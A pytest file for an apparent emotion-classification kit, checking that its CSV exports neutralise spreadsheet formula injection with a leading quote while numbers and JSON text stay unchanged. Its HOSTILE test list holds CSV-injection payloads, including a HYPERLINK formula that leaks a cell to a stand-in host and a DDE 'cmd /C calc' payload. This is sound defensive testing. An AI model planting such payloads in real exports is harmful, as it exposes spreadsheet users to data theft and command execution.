"""CSV files the kit writes for people to open in a spreadsheet: text cells that a spreadsheet
would run as a formula are neutralised (the OWASP rule, a leading single quote); numbers stay
numbers; the JSON output keeps every text exactly."""
from __future__ import annotations

import csv
import json

import numpy as np

from safsd_glnet.data import atomic_files as files
from safsd_glnet.training.prediction import UtterancePrediction, write_predictions
from safsd_glnet.training.train import Predictions
from safsd_glnet.training.train import write_predictions as write_test_predictions

# The cells of the issue, and the other starts a spreadsheet reads as a formula.
HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)",
           "+1+1", "-2+3", "\tTAB first", "\rCR first"]
HARMLESS = ["plain", "it's = fine inside", "a-b", "'quoted already"]


def rows_of(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_predict_csv_neutralises_formulas_and_json_keeps_them(tmp_path):
    classes = ["neutral", "anger"]
    texts = HOSTILE + HARMLESS
    rows = [UtterancePrediction(dialogue=t, position=i, speaker=t, text=t, emotion="anger",
                                probabilities={"neutral": 0.25, "anger": 0.75}) for i, t in enumerate(texts)]
    write_predictions(tmp_path / "p.csv", rows, classes)
    header, *body = rows_of(tmp_path / "p.csv")
    assert header == ["dialogue_id", "position", "speaker", "text", "prediction", "p_neutral", "p_anger"]
    for t, r in zip(texts, body):
        expected = "'" + t if t in HOSTILE else t
        assert r[0] == r[2] == r[3] == expected, (t, r)
        assert r[5:] == ["0.250000", "0.750000"]  # numbers as before
    assert [int(r[1]) for r in body] == list(range(len(texts)))
    write_predictions(tmp_path / "p.json", rows, classes)
    data = json.loads((tmp_path / "p.json").read_text())
    assert [u["text"] for u in data["utterances"]] == texts  # JSON keeps the text exactly


def test_test_predictions_csv_neutralises_formulas(tmp_path):
    ids = HOSTILE + HARMLESS
    classes = ["=bad", "good"]  # class names come from the user's data too
    p = Predictions(dialogue_ids=ids, positions=np.arange(len(ids)), labels=np.zeros(len(ids), dtype=int),
                    preds=np.ones(len(ids), dtype=int), probs=np.tile([0.5, 0.5], (len(ids), 1)))
    write_test_predictions(tmp_path / "test_predictions.csv", p, classes)
    header, *body = rows_of(tmp_path / "test_predictions.csv")
    assert header == ["dialogue_id", "position", "label", "prediction", "p_=bad", "p_good"]  # starts with "p"
    for d, r in zip(ids, body):
        assert r[0] == ("'" + d if d in HOSTILE else d)
        assert r[2] == "'=bad" and r[3] == "good" and r[4:] == ["0.500000", "0.500000"]


def test_numbers_stay_numbers_and_only_text_is_neutralised(tmp_path):
    files.write_csv(tmp_path / "x.csv", ["name", "score", "count"],
                    [["-0.5", -0.5, -3], ["=1+1", 2.25, np.int64(7)], ["@x", np.float32(-1.5), 0]])
    assert rows_of(tmp_path / "x.csv") == [["name", "score", "count"], ["'-0.5", "-0.500000", "-3"],
                                           ["'=1+1", "2.250000", "7"], ["'@x", "-1.500000", "0"]]
